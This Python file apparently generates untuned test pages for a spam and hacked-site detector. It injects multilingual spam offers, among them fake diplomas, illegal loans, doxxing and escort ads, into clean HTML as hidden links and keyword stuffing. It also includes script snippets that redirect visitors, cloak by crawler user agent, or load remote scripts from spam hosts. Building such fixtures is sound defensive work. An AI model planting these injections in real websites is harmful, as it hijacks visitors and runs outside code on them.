"""Two families written last. No detector, list or threshold was changed after their first run."""

# ruff: noqa: E501 (markup reads better on one line)
import random
from collections.abc import Callable

from clean_pages import Clean

OFFERS = (
    "拆迁房内部号转手|廉租指标买名额|小产权楼尾盘甩|法拍捡漏陪跑|学位房落户捷径",
    "闪电退役证明|军品皮靴尾单|防身甩棍喷雾|野战迷彩夜视仪|复合弓狩猎套",
    "塔罗占桃花|通灵问米法事|泰国佛牌古曼|养小鬼招财|八字合婚密语",
    "胶原童颜针面诊|线雕提拉口碑|私密漂红项目|生发液秃头逆袭|烤瓷牙团购券",
    "足浴采耳套票|夜场订房经理|商务模特卡座|嫩模游艇派对|魅力男公关",
    "球探比分预测单|扫盘机器人挂机|红单大神跟投|电竞菠萝盘口|德州俱乐部包间",
    "车主贷二押空间|助贷渠道代理返点|芝麻信用修复师|债务重组停催|逾期征信清零",
    "手机群控云机|短信轰炸接口|匿名邮箱代发|扫号撞库软件|查档人肉小组",
    "セフレ 募集 地域別|高収入 ライブチャット 登録|パチスロ 攻略 裏技|ブランド コピー 代引き",
    "온라인 홀덤 사이트|불법 대출 상담|흥신소 의뢰 비용|미프진 정품 판매",
    "เครดิตฟรีกดรับเอง|ซื้อวุฒิการศึกษา|นวดกระปู๋ นอกสถานที่|หวยหุ้นวันนี้",
    "индивидуалки с выездом|букмекер фрибет|диплом вуза с занесением|кредит без отказа",
    "bet siteleri güncel giriş|sahte diploma fiyatı|canlı sohbet kızlar|kredi notu yükseltme",
    "kamagra jelly wholesale|adult chat rooms free|fast cash installment|essay mill cheap|live dealer roulette",
)
HOSTS = "www.sdlcyz.com kmtxhf.cn www.gzbyxw.net hfzmdl.com 6699xc.com www.tymhjc.com lz-wds.com".split()
Put = Callable[[random.Random, Clean, list[str]], str]


def _links(source: random.Random, words: list[str]) -> str:
    return "&nbsp;".join(f"<a href=http://{source.choice(HOSTS)}>{word}</a>" for word in words)


SPOTS: tuple[Put, ...] = (
    lambda s, c, w: c.html(title="_".join(w[:4])),
    lambda s, c, w: c.html(head=f"<meta name='description' content='{' '.join(w)}'>"),
    lambda s, c, w: c.html(last=f"<div align=center>{_links(s, w[:4])}</div>"),
    lambda s, c, w: c.html(middle=f"<p>{_links(s, w[:3])}</p>"),
    lambda s, c, w: c.html(middle=f"<h4 style='text-indent:-999em'>{'_'.join(w[:4])}</h4>"),
    lambda s, c, w: c.html(middle=f"<p>{'_'.join(w[:4])}</p>"),
    lambda s, c, w: c.html(first=f"<h1>{'_'.join(w[:3])}</h1>"),
    lambda s, c, w: c.html(middle=f"<p>{'，'.join(w[:3])}，加V：mq{s.randrange(10**5, 10**6)}</p>"),
    lambda s, c, w: c.html(behind=",".join(w[:4])),
    lambda s, c, w: c.html(middle=f"<!-- {_links(s, w[:4])} -->"),
    lambda s, c, w: c.html(middle=f"<a href='/' title='{','.join(w[:4])}'>首页</a>"),
    lambda s, c, w: c.html(middle=f"<noscript>{'、'.join(w[:4])}</noscript>"),
)


def fresh_offers(source: random.Random, clean: Clean) -> str:
    """Offer what no list and no family held."""
    words = source.choice(OFFERS).split("|")
    source.shuffle(words)
    return source.choice(SPOTS)(source, clean, words)


def fresh_ways(source: random.Random, clean: Clean) -> str:
    """Hide links, or lead visitors away, in ways that no family held."""
    host, words = source.choice(HOSTS), source.choice(OFFERS).split("|")
    links = _links(source, words[:3])
    pieces = [
        {"middle": f"<div style='position:absolute;inset:-9999px auto auto -9999px'>{links}</div>"},
        {"middle": f"<div style='transform:translate(-200%,0);position:absolute'>{links}</div>"},
        {"middle": f"<div style='font-size:.1px'>{links}</div>"},
        {"middle": f"<div style='opacity:0.001'>{links}</div>"},
        {"middle": f"<div style='color:rgb(255,255,254)'>{links}</div>"},
        {"middle": f"<div style='clip-path:circle(0)'>{links}</div>"},
        {
            "middle": f"<div class='u-h'>{links}</div><style>.u-h{{max-height:0!important;overflow:hidden}}</style>"
        },
        {
            "middle": f"<div id='n9'>{links}</div><script>document.getElementById('n9').style.display='none'</script>"
        },
        {
            "middle": f"<div id='n8'>{links}</div><script>document.querySelector('#n8').remove()</script>"
        },
        {"middle": f"<details><summary>.</summary>{links}</details>"},
        {"last": f"<script>top['location']['href']='http://{host}'</script>"},
        {"last": f"<script>const[a,b]=['http://','{host}'];location.href=a+b</script>"},
        {"last": f"<script>setInterval(()=>{{location='http://{host}'}},9e3)</script>"},
        {
            "last": f"<script>var a=document.createElement('a');a.href='http://{host}';a.click()</script>"
        },
        {
            "last": f"<script>var s=document.createElement('script');s.setAttribute('src','http://{host}/b.js');document.body.append(s)</script>"
        },
        {"last": f"<script>document.documentElement.innerHTML='<iframe src=//{host}>'</script>"},
        {"last": f"<script src='http://{host}/?id=7'></script>"},
        {
            "last": f"<script>/Baiduspider|Googlebot/.test(navigator.userAgent)||(location.href='//{host}')</script>"
        },
        {"last": f"<body onpageshow=\"location='http://{host}'\">"},
        {
            "last": f"<isindex action='http://{host}'><math><a href='http://{host}'>{words[0]}</a></math>"
        },
    ]
    return clean.html(**source.choice(pieces))


UNTUNED: dict[str, Callable[[random.Random, Clean], str]] = {
    "fresh offers (untuned)": fresh_offers,
    "fresh ways (untuned)": fresh_ways,
}
